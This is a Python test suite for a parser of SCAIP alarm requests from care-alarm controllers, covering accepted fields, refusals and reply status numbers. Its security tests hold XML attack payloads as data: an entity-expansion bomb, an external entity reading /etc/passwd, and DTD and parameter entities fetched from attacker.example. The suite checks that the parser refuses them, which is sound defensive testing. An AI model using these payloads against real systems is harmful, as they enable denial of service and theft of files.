"""SCAIP requests from alarm controllers: what we accept, what we refuse and with which status
number, so a controller knows whether its alarm arrived."""

from __future__ import annotations

import dataclasses
import unicodedata
import xml.etree.ElementTree as ET
from xml.sax.saxutils import escape

import pytest
from hypothesis import given
from hypothesis import strategies as st

from regiozorg.night.intake.scaip import (
    DEVICE_TYPES,
    MAX_BODY_BYTES,
    MessageType,
    ScaipError,
    ScaipMessage,
    Snu,
    parse,
    reply,
)

# The tag of each field, written out here so the tests check the module's mapping.
TAGS = {
    "ref": "ref",
    "controller_id": "cid",
    "device_type": "dty",
    "device_id": "did",
    "device_component": "dco",
    "device_text": "dte",
    "message_type": "mty",
    "status_code": "stc",
    "status_text": "stt",
    "priority": "pri",
    "location_code": "lco",
    "location_value": "lva",
    "location_text": "lte",
    "location_geo": "lge",
    "info_code": "ico",
    "info_text": "ite",
    "callback": "crd",
    "additional": "ame",
}

# A fall detector in the bathroom of room 12 raises an alarm.
FALL_IN_BATHROOM = ScaipMessage(
    ref="A7F3",
    controller_id="31501234",
    device_type="0005",
    device_id="77",
    device_component="1",
    device_text="Valdetector kamer 12",
    message_type=MessageType.ALARM,
    status_code="0009",
    status_text="Automatisch alarm",
    priority=1,
    location_code="011",
    location_value="12",
    location_text="Badkamer",
    location_geo="52.7800,6.4000",
    info_code="0001",
    info_text="Geen beweging na val",
    callback="+31522123456",
    additional="Sleutel in kluisje bij de voordeur",
)


def render(message: ScaipMessage) -> bytes:
    """The request a controller would send for ``message``: every field that has a value."""
    children = "".join(
        f"<{tag}>{escape(str(value))}</{tag}>"
        for name, tag in TAGS.items()
        if (value := getattr(message, name)) is not None
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><mrq>{children}</mrq>'.encode()


def request(*children: str) -> str:
    return f"<mrq>{''.join(children)}</mrq>"


MINIMAL = ("<ref>R1</ref>", "<cid>123</cid>", "<dty>0003</dty>")


def refused(body: bytes | str) -> ScaipError:
    with pytest.raises(ScaipError) as caught:
        parse(body)
    return caught.value


# What we accept


def test_every_field_is_read_with_its_type() -> None:
    assert parse(render(FALL_IN_BATHROOM)) == FALL_IN_BATHROOM


def test_a_request_with_only_the_required_tags_is_an_alarm() -> None:
    message = parse(request(*MINIMAL))

    assert message == ScaipMessage(ref="R1", controller_id="123", device_type="0003")
    assert message.message_type is MessageType.ALARM
    assert message.priority is None


@pytest.mark.parametrize("message_type", list(MessageType))
def test_each_message_type_is_read(message_type: MessageType) -> None:
    message = parse(request(*MINIMAL, f"<mty>{message_type.value}</mty>"))

    assert message.message_type is message_type


def test_codes_keep_their_leading_zeros() -> None:
    message = parse(request(*MINIMAL, "<stc>0009</stc>", "<lco>011</lco>"))

    assert (message.device_type, message.status_code, message.location_code) == (
        "0003",
        "0009",
        "011",
    )


def test_unknown_tags_and_attributes_are_ignored_so_newer_controllers_still_get_through() -> None:
    body = request(
        '<ref version="2">R1</ref>',
        "<cid>123</cid>",
        "<dty>0003</dty>",
        "<xyz>new</xyz>",
        "<xyz>twice</xyz>",
        "<ext><nested><deeper>1</deeper></nested></ext>",
    )

    assert parse(body) == ScaipMessage(ref="R1", controller_id="123", device_type="0003")


def test_surrounding_whitespace_is_dropped_and_an_empty_optional_tag_is_absent() -> None:
    body = request("<ref>\n  R1\n</ref>", "<cid> 123 </cid>", "<dty>0003</dty>", "<dte>  </dte>")

    message = parse(body)

    assert (message.ref, message.controller_id, message.device_text) == ("R1", "123", None)


def test_text_and_bytes_in_any_declared_encoding_read_the_same() -> None:
    text = request(*MINIMAL, "<dte>Kamer 3, Ede</dte>", "<lte>Slaapkamer, één</lte>")
    expected = parse(text.encode())

    assert parse(text) == expected
    assert parse(b"\xef\xbb\xbf" + text.encode()) == expected  # with a byte order mark
    latin = '<?xml version="1.0" encoding="ISO-8859-1"?>' + text
    assert parse(latin.encode("iso-8859-1")) == expected
    windows = '<?xml version="1.0" encoding="windows-1252"?>' + text
    assert parse(windows.encode("cp1252")) == expected
    utf16 = '<?xml version="1.0" encoding="UTF-16"?>' + text
    assert parse(utf16.encode("utf-16")) == expected
    assert parse(utf16) == expected  # already decoded: the declaration no longer applies


def test_escaped_characters_and_cdata_are_read_as_text() -> None:
    message = parse(
        request(*MINIMAL, "<dte>Bed &amp; stoel &#60;3&gt;</dte>", "<ame><![CDATA[a<b]]></ame>")
    )

    assert (message.device_text, message.additional) == ("Bed & stoel <3>", "a<b")


def test_a_body_of_exactly_the_limit_is_read() -> None:
    body = request(*MINIMAL).encode()
    padded = body.replace(
        b"</mrq>", b"<pad>" + b"x" * (MAX_BODY_BYTES - len(body) - 11) + b"</pad></mrq>"
    )

    assert len(padded) == MAX_BODY_BYTES
    assert parse(padded).ref == "R1"


# What we refuse, and the status number the controller gets back


def test_a_body_over_the_limit_is_too_long_and_not_read() -> None:
    body = request(*MINIMAL).encode()
    padded = body.replace(
        b"</mrq>", b"<pad>" + b"x" * (MAX_BODY_BYTES - len(body) - 10) + b"</pad></mrq>"
    )

    error = refused(padded)

    assert len(padded) == MAX_BODY_BYTES + 1
    assert (error.snu, error.ref) == (Snu.TOO_LONG, None)


def test_the_limit_counts_bytes_not_characters() -> None:
    text = request(*MINIMAL, "<ame>" + "€" * (MAX_BODY_BYTES // 3) + "</ame>")

    assert len(text) < MAX_BODY_BYTES
    assert refused(text).snu is Snu.TOO_LONG


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"ref=R1;cid=123", id="not XML"),
        pytest.param(b"<mrq><ref>R1</ref><cid>123</cid>", id="cut off"),
        pytest.param(b"<mrq><ref>R1</cid></mrq>", id="crossed tags"),
        pytest.param(b"<mrq/><mrq/>", id="two roots"),
        pytest.param(b"<mrq><ref>R1&nbsp;</ref></mrq>", id="undefined entity"),
        pytest.param(b"<mrq><ref>R\xff1</ref></mrq>", id="not UTF-8"),
        pytest.param(b'<?xml version="1.0" encoding="klingon"?><mrq/>', id="unknown encoding"),
        pytest.param(b'<?xml version="1.0" encoding="rot13"?><mrq/>', id="not a text encoding"),
        pytest.param(b'<?xml version="1.0" encoding="shift_jis"?><mrq/>', id="multi-byte"),
        pytest.param(b'<?xml version="1.0" encoding="undefined"?><mrq/>', id="undefined codec"),
    ],
)
def test_malformed_xml_is_invalid_format(body: bytes | str) -> None:
    error = refused(body)

    assert (error.snu, error.ref) == (Snu.INVALID_FORMAT, None)


@pytest.mark.parametrize("root", ["mrs", "MRQ", "alarm", "s:mrq"])
def test_a_root_other_than_mrq_is_invalid_format(root: str) -> None:
    body = f"<{root}>{''.join(MINIMAL)}</{root}>"

    assert refused(body).snu is Snu.INVALID_FORMAT


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE mrq [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<mrq><ref>R1</ref><cid>123</cid><dty>0003</dty><dte>&lol9;</dte></mrq>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mrq [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<mrq><ref>R1</ref><cid>123</cid><dty>0003</dty><dte>&secret;</dte></mrq>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE mrq SYSTEM "http://attacker.example/scaip.dtd">
<mrq><ref>R1</ref><cid>123</cid><dty>0003</dty></mrq>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE mrq [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<mrq><ref>R1</ref><cid>123</cid><dty>0003</dty></mrq>"""

HARMLESS_DOCTYPE = "<!DOCTYPE mrq><mrq><ref>R1</ref><cid>123</cid><dty>0003</dty></mrq>"


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(BILLION_LAUGHS.encode(), id="billion laughs"),
        pytest.param(EXTERNAL_ENTITY.encode(), id="external entity"),
        pytest.param(EXTERNAL_DTD.encode(), id="external DTD"),
        pytest.param(PARAMETER_ENTITY.encode(), id="parameter entity"),
        pytest.param(HARMLESS_DOCTYPE.encode(), id="bare doctype"),
        pytest.param(EXTERNAL_ENTITY, id="as text"),
        pytest.param(
            EXTERNAL_ENTITY.replace('"1.0"', '"1.0" encoding="UTF-16"', 1).encode("utf-16"),
            id="in UTF-16, where no byte spells <!DOCTYPE",
        ),
    ],
)
def test_a_document_type_declaration_is_refused_before_anything_is_expanded(
    body: bytes | str,
) -> None:
    error = refused(body)

    assert (error.snu, error.ref) == (Snu.INVALID_FORMAT, None)


@pytest.mark.parametrize("tag", ["ref", "cid", "dty"])
def test_each_missing_required_tag_is_reported_as_missing(tag: str) -> None:
    children = [child for child in MINIMAL if not child.startswith(f"<{tag}>")]

    error = refused(request(*children))

    assert error.snu is Snu.MANDATORY_TAG_MISSING
    assert tag in error.message
    assert error.ref == (None if tag == "ref" else "R1")


@pytest.mark.parametrize("tag", ["ref", "cid", "dty"])
def test_an_empty_required_tag_counts_as_missing(tag: str) -> None:
    children = [f"<{tag}> </{tag}>" if child.startswith(f"<{tag}>") else child for child in MINIMAL]

    assert refused(request(*children)).snu is Snu.MANDATORY_TAG_MISSING


def test_every_missing_tag_is_named_at_once() -> None:
    error = refused(request("<ref>R1</ref>"))

    assert error.message == "required tags missing: cid, dty"


def with_field(tag: str, value: str) -> str:
    children = [child for child in MINIMAL if not child.startswith(f"<{tag}>")]
    return request(*children, f"<{tag}>{value}</{tag}>")


@pytest.mark.parametrize(
    ("tag", "value", "field", "used"),
    [
        ("dty", "003", "device_type", ""),
        ("dty", "00003", "device_type", ""),
        ("dty", "abcd", "device_type", ""),
        ("dty", "٠٠٠٣", "device_type", ""),  # Arabic-Indic digits are digits to Python only
        ("dty", "0099", "device_type", "0099"),  # a type we do not know: used, and noted
        ("mty", "XX", "message_type", MessageType.ALARM),
        ("mty", "me", "message_type", MessageType.ALARM),
        ("pri", "0", "priority", None),
        ("pri", "10", "priority", None),
        ("pri", "12", "priority", None),
        ("pri", "-1", "priority", None),
        ("pri", "high", "priority", None),
        ("pri", "1.5", "priority", None),
        ("stc", "00a9", "status_code", None),
        ("stc", "123456789", "status_code", None),
        ("did", "x" * 33, "device_id", None),
        ("did", "D 01", "device_id", None),
        ("crd", "x" * 33, "callback", None),
        ("lge", "x" * 65, "location_geo", None),
        ("dte", "x" * 256, "device_text", "x" * 255),
        ("stt", "x" * 256, "status_text", "x" * 255),
        ("lte", "x" * 256, "location_text", "x" * 255),
        ("ite", "x" * 256, "info_text", "x" * 255),
        ("ame", "x" * 1025, "additional", "x" * 1024),
        ("cid", "12a4", "controller_id", "12a4"),  # storable, if not SCAIP's digits
    ],
)
def test_an_odd_value_is_kept_as_sent_and_the_alarm_read(
    tag: str, value: str, field: str, used: object
) -> None:
    message = parse(with_field(tag, value))

    assert getattr(message, field) == used
    assert message.as_sent == ((tag, value),)


def test_a_tag_holding_elements_is_kept_as_sent() -> None:
    message = parse(request(*MINIMAL, "<dte>Kamer <b>12</b></dte>"))

    assert (message.device_text, message.as_sent) == (None, (("dte", "<elements>"),))


@pytest.mark.parametrize(
    "value",
    ["S-100", "AB 1", "ÄB1", "A" * 17, "R/2026:07.1_x", "#1 (retry)", "A" * 64, "参照-7"],
)
def test_any_printable_ref_up_to_64_characters_is_read_as_it_came(value: str) -> None:
    message = parse(with_field("ref", value))

    assert (message.ref, message.as_sent) == (value, ())


@pytest.mark.parametrize(
    ("tag", "value"),
    [("cid", "1" * 33), ("cid", "12 4"), ("cid", "٠٠٠٣")],
)
def test_a_cid_that_cannot_be_stored_is_wrong_data(tag: str, value: str) -> None:
    error = refused(with_field(tag, value))

    assert error.snu is Snu.WRONG_DATA
    assert f"<{tag}>" in error.message
    assert error.ref == "R1"


@pytest.mark.parametrize(
    ("value", "reason"),
    [("A" * 65, "65 characters"), ("A\tB", "not printable"), ("A\u200bB", "not printable")],
)
def test_a_ref_that_cannot_be_stored_is_wrong_data_and_still_echoed(
    value: str, reason: str
) -> None:
    error = refused(with_field("ref", value))

    assert (error.snu, error.ref) == (Snu.WRONG_DATA, value)
    assert reason in error.message


def test_a_readable_ref_is_echoed_when_another_tag_is_missing() -> None:
    error = refused(request("<ref>S-100</ref>", "<dty>0003</dty>"))

    assert (error.snu, error.ref) == (Snu.MANDATORY_TAG_MISSING, "S-100")


def test_the_same_ref_sent_twice_is_echoed_two_different_ones_are_not() -> None:
    same = refused(request(*MINIMAL, "<ref>R1</ref>"))
    different = refused(request(*MINIMAL, "<ref>R2</ref>"))

    assert (same.snu, same.ref) == (Snu.WRONG_DATA, "R1")
    assert (different.snu, different.ref) == (Snu.WRONG_DATA, None)


def test_a_ref_holding_elements_is_wrong_data_and_not_echoed() -> None:
    error = refused(with_field("ref", "R1<x/>"))

    assert (error.snu, error.ref) == (Snu.WRONG_DATA, None)


@pytest.mark.parametrize(("value", "expected"), [("1", 1), ("9", 9), (" 5 ", 5)])
def test_priority_is_an_integer_from_1_to_9(value: str, expected: int) -> None:
    message = parse(with_field("pri", value))

    assert (message.priority, message.as_sent) == (expected, ())


def test_an_optional_tag_sent_twice_counts_once_and_the_second_is_kept_as_sent() -> None:
    message = parse(request(*MINIMAL, "<dte>Kamer 12</dte>", "<dte>Kamer 14</dte>"))

    assert (message.device_text, message.as_sent) == ("Kamer 12", (("dte#2", "Kamer 14"),))


@pytest.mark.parametrize("tag", ["ref", "cid"])
def test_a_ref_or_cid_sent_twice_is_wrong_data(tag: str) -> None:
    error = refused(request(*MINIMAL, f"<{tag}>{'R2' if tag == 'ref' else '124'}</{tag}>"))

    assert error.snu is Snu.WRONG_DATA
    assert error.ref == (None if tag == "ref" else "R1")


# Control characters and broken text: cleaned, read, marked


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(request(*MINIMAL, "<dte>Kamer\x0012</dte>").encode(), id="NUL byte"),
        pytest.param(request(*MINIMAL, "<dte>Kamer\x0112</dte>").encode(), id="control byte"),
        pytest.param(request(*MINIMAL, "<dte>Kamer&#1;12</dte>").encode(), id="reference"),
        pytest.param(request(*MINIMAL, "<dte>Kamer&#x0;12</dte>"), id="hex reference"),
        pytest.param(request(*MINIMAL, "<dte>Kamer\x1b12</dte>"), id="in text"),
    ],
)
def test_control_characters_are_left_out_and_the_alarm_read(body: bytes | str) -> None:
    message = parse(body)

    assert (message.ref, message.device_text, message.cleaned) == ("R1", "Kamer12", ("xml",))


def test_a_lone_surrogate_in_text_is_replaced() -> None:
    message = parse(request(*MINIMAL, "<dte>Kamer \udcff12</dte>"))

    assert (message.device_text, message.cleaned) == ("Kamer \ufffd12", ("xml",))


def test_text_is_read_in_nfc() -> None:
    message = parse(request(*MINIMAL, "<dte>Kamer e\u0301e\u0301n</dte>"))

    assert (message.device_text, message.cleaned) == ("Kamer één", ())


def test_control_characters_do_not_make_malformed_xml_readable() -> None:
    assert refused(b"<mrq><ref>R1\x00</ref><cid>123</cid>").snu is Snu.INVALID_FORMAT


def test_a_duplicate_ref_is_reported_before_a_missing_tag() -> None:
    assert refused(request("<ref>R1</ref>", "<ref>R1</ref>")).snu is Snu.WRONG_DATA


def test_a_missing_tag_is_reported_before_an_unstorable_key() -> None:
    error = refused(request("<ref>R 1</ref>", "<dty>3</dty>", "<pri>high</pri>"))

    assert error.snu is Snu.MANDATORY_TAG_MISSING


# The reply


def read_reply(text: str) -> dict[str, str | None]:
    root = ET.fromstring(text)
    assert root.tag == "mrs"
    return {child.tag: child.text for child in root}


def test_a_reply_starts_with_the_xml_declaration() -> None:
    assert reply("R1", Snu.OK).startswith('<?xml version="1.0" encoding="UTF-8"?>')


def test_a_reply_echoes_the_ref_with_the_status_and_heartbeat_interval() -> None:
    assert read_reply(reply("A7F3", Snu.OK, heartbeat_interval=60)) == {
        "ref": "A7F3",
        "snu": "0",
        "hbi": "60",
    }


@pytest.mark.parametrize("snu", list(Snu))
def test_every_status_number_round_trips(snu: Snu) -> None:
    assert read_reply(reply("R1", snu)) == {"ref": "R1", "snu": str(snu.value)}


def test_the_status_numbers_are_those_of_the_standard() -> None:
    assert {snu.name: snu.value for snu in Snu} == {
        "OK": 0,
        "TOO_LONG": 1,
        "INVALID_FORMAT": 2,
        "WRONG_DATA": 3,
        "HOLD": 4,
        "NOT_TREATED": 5,
        "BUSY": 6,
        "MANDATORY_TAG_MISSING": 7,
    }


def test_a_reply_without_a_readable_ref_leaves_the_ref_out() -> None:
    assert read_reply(reply(None, Snu.INVALID_FORMAT)) == {"snu": "2"}


def test_a_refused_request_is_answered_with_its_ref_and_status() -> None:
    error = refused(request("<ref>R1</ref>", "<cid>123</cid>"))

    assert read_reply(reply(error.ref, error.snu)) == {"ref": "R1", "snu": "7"}


def test_the_ref_in_a_reply_is_escaped() -> None:
    ref = "</ref><snu>0</snu>&"

    assert read_reply(reply(ref, Snu.WRONG_DATA)) == {"ref": ref, "snu": "3"}


def test_a_ref_that_xml_cannot_carry_is_refused() -> None:
    with pytest.raises(ValueError, match="XML"):
        reply("R\x001", Snu.OK)


@pytest.mark.parametrize("interval", [0, -60])
def test_a_heartbeat_interval_must_be_positive(interval: int) -> None:
    with pytest.raises(ValueError, match="positive"):
        reply("R1", Snu.OK, heartbeat_interval=interval)


def test_known_device_types_are_four_digit_codes() -> None:
    assert DEVICE_TYPES["0005"] == "fall detector"
    assert all(len(code) == 4 and code.isascii() and code.isdigit() for code in DEVICE_TYPES)


# Properties

# Characters a controller can send in XML 1.0; control characters are left out, and values do
# not start or end with a space because the parser drops surrounding whitespace.
XML_TEXT = st.characters(blacklist_categories=("Cs", "Cc"), blacklist_characters="\ufffe\uffff")


def text(max_size: int) -> st.SearchStrategy[str | None]:
    value = (
        st.text(XML_TEXT, min_size=1, max_size=max_size)
        .map(lambda s: unicodedata.normalize("NFC", s))  # as every text from outside is read
        .filter(lambda s: s == s.strip() and 0 < len(s) <= max_size)
    )
    return st.none() | value


MESSAGES = st.builds(
    ScaipMessage,
    ref=st.from_regex(r"[A-Za-z0-9]{1,16}", fullmatch=True),
    controller_id=st.from_regex(r"[0-9]{1,32}", fullmatch=True),
    device_type=st.sampled_from(sorted(DEVICE_TYPES)),
    device_id=st.none() | st.from_regex(r"[A-Za-z0-9._-]{1,32}", fullmatch=True),
    device_component=text(32),
    device_text=text(60),
    message_type=st.sampled_from(MessageType),
    status_code=st.none() | st.from_regex(r"[0-9]{1,8}", fullmatch=True),
    status_text=text(60),
    priority=st.none() | st.integers(1, 9),
    location_code=text(32),
    location_value=text(32),
    location_text=text(60),
    location_geo=text(64),
    info_code=text(32),
    info_text=text(60),
    callback=text(32),
    additional=text(200),
)


@given(MESSAGES)
def test_any_valid_message_parses_back_equal(message: ScaipMessage) -> None:
    assert parse(render(message)) == message


def test_a_rendered_message_without_mty_parses_as_an_alarm() -> None:
    reset = dataclasses.replace(FALL_IN_BATHROOM, message_type=MessageType.RESET)
    body = render(reset).replace(b"<mty>RE</mty>", b"")

    assert parse(body).message_type is MessageType.ALARM


def parse_or_refuse(body: bytes | str) -> None:
    try:
        parse(body)
    except ScaipError as error:
        assert isinstance(error.snu, Snu)
        assert error.snu is not Snu.OK


@given(st.binary(max_size=MAX_BODY_BYTES + 100))
def test_random_bytes_never_raise_anything_but_a_scaip_error(body: bytes) -> None:
    parse_or_refuse(body)


@given(st.text(max_size=500))
def test_random_text_never_raises_anything_but_a_scaip_error(body: str) -> None:
    parse_or_refuse(body)


@given(MESSAGES, st.data())
def test_a_damaged_valid_request_never_raises_anything_but_a_scaip_error(
    message: ScaipMessage, data: st.DataObject
) -> None:
    body = render(message)
    start = data.draw(st.integers(0, len(body)))
    end = data.draw(st.integers(start, min(len(body), start + 8)))
    damage = data.draw(st.binary(max_size=8) | st.sampled_from([b"<", b"&", b"]]>", b"<!"]))

    parse_or_refuse(body[:start] + damage + body[end:])
